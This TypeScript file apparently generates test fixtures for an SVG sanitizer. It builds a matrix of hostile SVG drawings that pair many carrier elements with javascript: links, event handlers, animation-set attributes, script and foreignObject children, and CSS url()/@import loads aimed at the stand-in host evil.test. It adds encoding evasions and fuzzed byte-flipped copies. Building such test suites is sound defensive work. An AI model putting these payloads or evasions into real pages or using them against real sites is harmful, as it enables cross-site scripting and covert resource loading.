// Drawings that try to run code or reach another site, made as a matrix: every element
// that can carry a link, a handler, a style or an animation, × every attack an attribute,
// an animation or a child can hold, × the spellings a parser decodes (character
// references, an entity of the file's own DTD, CSS escapes and comments, case, white
// space, `xlink:` and plain). One file per attack and spelling, every carrier in it.
// Each attack reaches for EVIL (a host that is never served) or calls alert().

export const EVIL = "http://evil.test";

export interface Case {
  /** Lowercase letters, digits and dashes: the published copy's name starts with it. */
  name: string;
  svg: string | Buffer;
}

/** A value and the DTD its spelling needs (an entity of the file's own). */
interface Spelled {
  value: string;
  dtd?: string;
}

type Spelling = { name: string; spell: (value: string) => Spelled };

const charRefs = (text: string, count: number) =>
  [...text].map((c, i) => (i < count ? `&#${c.codePointAt(0)};` : c)).join("");

/** Spellings of a URL or a script an XML parser decodes before any other reader sees it. */
const XML_SPELLINGS: Spelling[] = [
  { name: "plain", spell: (value) => ({ value }) },
  { name: "refs", spell: (value) => ({ value: charRefs(value, 4) }) },
  { name: "hexref", spell: (value) => ({ value: value.replace(/^(.)/, (c) => `&#x${c.codePointAt(0)!.toString(16)};`) }) },
  { name: "entity", spell: (value) => ({ value: "&v;", dtd: `<!ENTITY v "${value.replace(/"/g, "&#34;")}">` }) },
  { name: "space", spell: (value) => ({ value: ` \t&#10;${value}` }) },
  { name: "tab", spell: (value) => ({ value: value.replace("script:", "scr&#9;ipt:").replace("http:", "ht&#9;tp:") }) },
  { name: "case", spell: (value) => ({ value: value.replace("javascript:", "JaVaScRiPt:").replace("url(", "URL(").replace("http:", "HTTP:") }) },
];

/** Spellings CSS decodes: escapes, comments, case, as well as the XML ones. */
const CSS_SPELLINGS: Spelling[] = [
  ...XML_SPELLINGS,
  { name: "escape", spell: (value) => ({ value: value.replace("url(", "\\75 rl(").replace("image-set(", "imag\\65-set(").replace("@import", "@\\69mport") }) },
  { name: "escape2", spell: (value) => ({ value: value.replace("url(", "u\\72l(").replace("@import", "@im\\70ort") }) },
  { name: "comment", spell: (value) => ({ value: value.replace(":", ":/**/").replace("url(", "url(/**/") }) },
];

/** What an attribute can hold. */
interface AttributeAttack {
  name: string;
  attribute: string;
  value: string;
  spellings: Spelling[];
}

const ATTRIBUTE_ATTACKS: AttributeAttack[] = [
  { name: "href-js", attribute: "href", value: "javascript:alert(1)", spellings: XML_SPELLINGS },
  { name: "xlink-js", attribute: "xlink:href", value: "javascript:alert(1)", spellings: XML_SPELLINGS },
  { name: "href-away", attribute: "href", value: `${EVIL}/href`, spellings: XML_SPELLINGS },
  { name: "xlink-away", attribute: "xlink:href", value: `${EVIL}/xlink`, spellings: XML_SPELLINGS },
  { name: "href-data", attribute: "href", value: "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E", spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "onclick", attribute: "onclick", value: "alert(1)", spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "onload", attribute: "onload", value: "alert(1)", spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "onmouseover", attribute: "onmouseover", value: "alert(1)", spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "onbegin", attribute: "onbegin", value: "alert(1)", spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "onfocusin", attribute: "onfocusin", value: "alert(1)", spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "xmlbase", attribute: "xml:base", value: `${EVIL}/base/`, spellings: XML_SPELLINGS.slice(0, 2) },
  { name: "style-url", attribute: "style", value: `fill:url(${EVIL}/style)`, spellings: CSS_SPELLINGS },
  { name: "style-imageset", attribute: "style", value: `fill:red;background-image:image-set("${EVIL}/set.png" 1x)`, spellings: CSS_SPELLINGS },
  { name: "style-cursor", attribute: "style", value: `cursor:url(${EVIL}/cursor.png),auto`, spellings: CSS_SPELLINGS },
  { name: "fill-url", attribute: "fill", value: `url(${EVIL}/fill#g)`, spellings: CSS_SPELLINGS },
  { name: "filter-url", attribute: "filter", value: `url(${EVIL}/filter#f)`, spellings: CSS_SPELLINGS },
  { name: "mask-url", attribute: "mask", value: `url(${EVIL}/mask#m)`, spellings: CSS_SPELLINGS },
  { name: "clip-url", attribute: "clip-path", value: `url("${EVIL}/clip#c")`, spellings: CSS_SPELLINGS },
  { name: "marker-url", attribute: "marker-start", value: `url(${EVIL}/marker#k)`, spellings: CSS_SPELLINGS },
  { name: "cursor-attr", attribute: "cursor", value: `url(${EVIL}/cursor.cur),auto`, spellings: CSS_SPELLINGS.slice(0, 3) },
];

/** What an animation can set, on the element around it. */
const ANIMATION_ATTACKS: { name: string; markup: (spelled: string) => string }[] = [
  { name: "set-href", markup: (v) => `<set attributeName="href" to="${v}" begin="0s"/>` },
  { name: "set-xlink", markup: (v) => `<set attributeName="xlink:href" to="${v}" begin="0s"/>` },
  { name: "animate-href", markup: (v) => `<animate attributeName="href" values="${v};${v}" dur="1s" begin="0s" fill="freeze"/>` },
  { name: "set-onclick", markup: () => `<set attributeName="onclick" to="alert(1)" begin="0s"/>` },
  { name: "set-fill", markup: () => `<set attributeName="fill" to="url(${EVIL}/set-fill)" begin="0s"/>` },
  { name: "onbegin", markup: () => `<set attributeName="x" to="1" begin="0s" onbegin="alert(1)"/>` },
  { name: "motion", markup: () => `<animateMotion dur="1s" begin="0s"><mpath href="${EVIL}/mpath#p"/></animateMotion>` },
  { name: "transform-click", markup: (v) => `<animateTransform attributeName="transform" type="scale" to="2" begin="click"/><set attributeName="href" to="${v}" begin="click"/>` },
];

/** Children that load or run something on their own. */
const CONTENT_ATTACKS: { name: string; markup: string; dtd?: string; before?: string }[] = [
  { name: "script", markup: "<script>alert(1)</script>" },
  { name: "script-cdata", markup: "<script><![CDATA[alert(1)]]></script>" },
  { name: "script-away", markup: `<script href="${EVIL}/s.js"/><script xlink:href="${EVIL}/x.js"/>` },
  { name: "html-script", markup: '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>' },
  { name: "foreign", markup: `<foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/frame"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>` },
  { name: "image-away", markup: `<image href="${EVIL}/i.png" width="9" height="9"/><image xlink:href="${EVIL}/x.png" width="9" height="9"/>` },
  { name: "feimage", markup: `<filter id="fi"><feImage href="${EVIL}/fe.png"/></filter><rect filter="url(#fi)" width="9" height="9"/>` },
  { name: "style-import", markup: `<style>@import url(${EVIL}/i.css);</style>` },
  { name: "style-import-escaped", markup: `<style>@\\69mport "${EVIL}/e.css";</style>` },
  { name: "style-fontface", markup: `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)} text{font-family:x}</style><text y="9">a</text>` },
  { name: "style-rule", markup: `<style>rect{fill:\\75 rl(${EVIL}/r)}</style>` },
  { name: "style-cdata", markup: `<style><![CDATA[rect{fill:url(${EVIL}/c)}]]></style>` },
  { name: "style-entity", markup: "<style>&css;</style>", dtd: `<!ENTITY css "rect{fill:url(${EVIL}/ent)}">` },
  { name: "stylesheet-pi", markup: "<rect width=\"9\" height=\"9\"/>", before: `<?xml-stylesheet href="${EVIL}/pi.css" type="text/css"?>` },
  { name: "use-away", markup: `<use href="${EVIL}/u.svg#a"/><use xlink:href="${EVIL}/x.svg#a"/>` },
  { name: "tref", markup: `<text y="9"><tref xlink:href="${EVIL}/t.svg#t"/></text>` },
  { name: "a-away", markup: `<a href="${EVIL}/a" target="_blank"><rect width="40" height="40"/></a>` },
];

/**
 * Elements that can carry a link, a handler, a style or an animation, each given a place
 * of its own (x, y) so a click reaches it. `{A}` is where the attack goes; `{i}` an id.
 */
const CARRIERS: string[] = [
  `<a {A}><rect x="{x}" y="{y}" width="20" height="20"/></a>`,
  `<g {A}><rect x="{x}" y="{y}" width="20" height="20"/></g>`,
  `<rect x="{x}" y="{y}" width="20" height="20" {A}/>`,
  `<circle cx="{cx}" cy="{cy}" r="10" {A}/>`,
  `<path d="M{x} {y}h20v20h-20z" {A}/>`,
  `<text x="{x}" y="{cy}" {A}>T</text>`,
  `<text x="{x}" y="{cy}"><tspan {A}>T</tspan></text>`,
  `<use x="{x}" y="{y}" {A}/>`,
  `<use x="{x}" y="{y}" href="#r"><title {A}>t</title></use>`,
  `<image x="{x}" y="{y}" width="20" height="20" {A}/>`,
  `<svg x="{x}" y="{y}" width="20" height="20" {A}><rect width="20" height="20"/></svg>`,
  `<switch {A}><rect x="{x}" y="{y}" width="20" height="20"/></switch>`,
  `<pattern id="p{i}" width="4" height="4" patternUnits="userSpaceOnUse" {A}><rect width="2" height="2"/></pattern><rect x="{x}" y="{y}" width="20" height="20" fill="url(#p{i})"/>`,
  `<linearGradient id="l{i}" {A}><stop offset="0" stop-color="red"/></linearGradient><rect x="{x}" y="{y}" width="20" height="20" fill="url(#l{i})"/>`,
  `<filter id="f{i}" {A}><feFlood flood-color="red"/></filter><rect x="{x}" y="{y}" width="20" height="20" filter="url(#f{i})"/>`,
  `<filter id="fi{i}"><feImage {A}/></filter><rect x="{x}" y="{y}" width="20" height="20" filter="url(#fi{i})"/>`,
  `<mask id="m{i}" {A}><rect width="400" height="400" fill="white"/></mask><rect x="{x}" y="{y}" width="20" height="20" mask="url(#m{i})"/>`,
  `<foreignObject x="{x}" y="{y}" width="20" height="20" {A}><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>`,
  `<rect x="{x}" y="{y}" width="20" height="20"><animate attributeName="width" to="20" dur="1s" {A}/></rect>`,
  `<rect x="{x}" y="{y}" width="20" height="20"><set attributeName="height" to="20" {A}/></rect>`,
  `<script {A}></script><rect x="{x}" y="{y}" width="20" height="20"/>`,
  `<style {A}></style><rect x="{x}" y="{y}" width="20" height="20"/>`,
];

/** Elements an animation can stand in and change; `{IN}` is where it goes. */
const ANIMATION_HOSTS: string[] = [
  `<a href="#r"><rect x="{x}" y="{y}" width="20" height="20"/>{IN}</a>`,
  `<a>{IN}<rect x="{x}" y="{y}" width="20" height="20"/></a>`,
  `<rect x="{x}" y="{y}" width="20" height="20">{IN}</rect>`,
  `<circle cx="{cx}" cy="{cy}" r="10">{IN}</circle>`,
  `<g>{IN}<rect x="{x}" y="{y}" width="20" height="20"/></g>`,
  `<use x="{x}" y="{y}" href="#r">{IN}</use>`,
  `<text x="{x}" y="{cy}">T{IN}</text>`,
  `<image x="{x}" y="{y}" width="20" height="20">{IN}</image>`,
  `<svg x="{x}" y="{y}" width="20" height="20">{IN}<rect width="20" height="20"/></svg>`,
];

function drawing(body: string, dtd = "", before = ""): string {
  const doctype = dtd ? `<!DOCTYPE svg [${dtd}]>\n` : "";
  return `<?xml version="1.0" encoding="UTF-8"?>\n${before}${doctype}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="400" viewBox="0 0 480 400">
<defs><rect id="r" width="20" height="20" fill="green"/><linearGradient id="g"><stop offset="0" stop-color="blue"/></linearGradient></defs>
${body}
</svg>
`;
}

/** Each carrier in a cell of its own: 8 to a row, 50 px apart. */
function place(template: string, index: number, attack: string): string {
  const x = 10 + (index % 8) * 50;
  const y = 10 + Math.floor(index / 8) * 50;
  return template
    .replaceAll("{A}", attack)
    .replaceAll("{i}", String(index))
    .replaceAll("{x}", String(x))
    .replaceAll("{y}", String(y))
    .replaceAll("{cx}", String(x + 10))
    .replaceAll("{cy}", String(y + 10));
}

export function attackMatrix(): Case[] {
  const cases: Case[] = [];
  for (const attack of ATTRIBUTE_ATTACKS) {
    for (const spelling of attack.spellings) {
      const { value, dtd } = spelling.spell(attack.value);
      const body = CARRIERS.map((carrier, i) => place(carrier, i, `${attack.attribute}="${value}"`)).join("\n");
      cases.push({ name: `attr-${attack.name}-${spelling.name}`, svg: drawing(body, dtd) });
    }
  }
  for (const attack of ANIMATION_ATTACKS) {
    for (const spelling of XML_SPELLINGS.slice(0, 4)) {
      const { value, dtd } = spelling.spell("javascript:alert(1)");
      const inside = attack.markup(value);
      const body = ANIMATION_HOSTS.map((host, i) => place(host.replaceAll("{IN}", inside), i, "")).join("\n");
      cases.push({ name: `anim-${attack.name}-${spelling.name}`, svg: drawing(body, dtd) });
    }
  }
  for (const attack of CONTENT_ATTACKS) {
    cases.push({ name: `child-${attack.name}`, svg: drawing(attack.markup, attack.dtd, attack.before) });
    // The same inside every carrier that can hold children.
    const body = CARRIERS.filter((carrier) => !carrier.endsWith("/>")).map((carrier, i) =>
      place(carrier, i, "").replace(/<\/(\w+)>$/, `${attack.markup}</$1>`),
    );
    cases.push({ name: `child-${attack.name}-nested`, svg: drawing(body.join("\n"), attack.dtd, attack.before) });
  }
  return cases;
}

/** Damaged copies of some of the attacks: bytes flipped and ends cut, the same every run. */
export function mutatedCases(from: Case[], count: number): Case[] {
  let state = 0x9e3779b9;
  const next = (bound: number) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % Math.max(1, bound);
  };
  const out: Case[] = [];
  for (let n = 0; n < count; n++) {
    const source = from[next(from.length)]!;
    const bytes = Buffer.from(source.svg);
    for (let flips = 1 + next(6); flips > 0; flips--) {
      const at = next(bytes.length);
      bytes[at] = bytes[at]! ^ (1 << next(7));
    }
    const cut = n % 3 === 0 ? bytes.subarray(0, next(bytes.length)) : bytes;
    out.push({ name: `mutated-${n}`, svg: Buffer.from(cut) });
  }
  return out;
}
